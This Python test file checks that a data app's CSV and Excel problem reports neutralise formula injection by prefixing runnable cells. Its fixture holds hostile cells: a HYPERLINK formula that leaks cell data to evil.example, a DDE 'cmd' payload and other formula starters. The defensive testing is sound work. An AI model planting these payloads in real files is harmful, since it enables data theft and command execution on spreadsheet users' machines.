"""The problem reports on Data & sources (CSV and Excel) carry a dropped file's cells as text, never
as formulas that a spreadsheet would run (CSV/formula injection), read back as Excel would."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd

from components.catalogue import INDICATOR_COLUMNS, read_catalogue
from components.export import FORMULA_STARTS
from components.i18n import texts
from components.observations import read_observations
from components.validation_report import problems_csv, report_workbook
from tests.conftest import DATA

INDICATORS, _ = read_catalogue(DATA / "catalogue" / "indicators.csv", INDICATOR_COLUMNS)

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the corrected figures")'
# Every cell a spreadsheet would run: =, +, -, @, a tab or a carriage return first.
HOSTILE_FILE = (
    "indicator,country,year,value,note\n"
    f'emigrant_stock,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",2020,5,\n'
    "emigrant_stock,ALB,2020,+cmd|' /C calc'!A0,\n"
    "emigrant_stock,ALB,-2+3,5,\n"
    "@SUM(1+1),ALB,2020,5,\n"
    'emigrant_stock,"\tALB",2021,-1,\n'
    'emigrant_stock,"\r=1+1",2022,5,\n'
).encode("utf-8")
FILE_NAME = "=1+1 dropped.csv"


def hostile_reports():
    _, _, report = read_observations(HOSTILE_FILE, FILE_NAME, INDICATORS)
    values = {str(p.value) for p in report.problems}
    # The file really carries each attack into the report (else this test would prove nothing).
    assert HYPERLINK in values and "@SUM(1+1)" in values and "-2+3" in values, values
    conflicts = pd.DataFrame([{"indicator": "emigrant_stock", "country": "ALB", "partner": "", "region": "",
                               "sex": "", "year": 2020, "kept_value": 5.0, "kept_file": FILE_NAME,
                               "left_out_value": -3.0, "left_out_file": "@other.csv"}])
    return [report], conflicts


def runnable(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def test_the_problems_csv_has_no_cell_a_spreadsheet_would_run():
    reports, _ = hostile_reports()
    for code in ("en", "sr-Cyrl"):
        rows = list(csv.reader(io.StringIO(problems_csv(reports, texts(code)).decode("utf-8-sig"), newline="")))
        cells = [cell for row in rows for cell in row]
        assert [cell for cell in cells if runnable(cell)] == []
        # Prefixed, not dropped: the cell is still there for staff to find in their file.
        assert "'" + HYPERLINK in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
        assert "'" + FILE_NAME in cells


def test_the_excel_report_has_no_formula_and_every_runnable_text_is_prefixed():
    reports, conflicts = hostile_reports()
    workbook = openpyxl.load_workbook(io.BytesIO(report_workbook(reports, conflicts, texts("en"))))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts_found = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert [text for text in texts_found if runnable(text)] == []
    assert "'" + HYPERLINK in texts_found and "'" + FILE_NAME in texts_found and "'@other.csv" in texts_found
    # Numbers stay numbers (a negative one too): only text is prefixed.
    assert -3 in [cell.value for cell in cells]
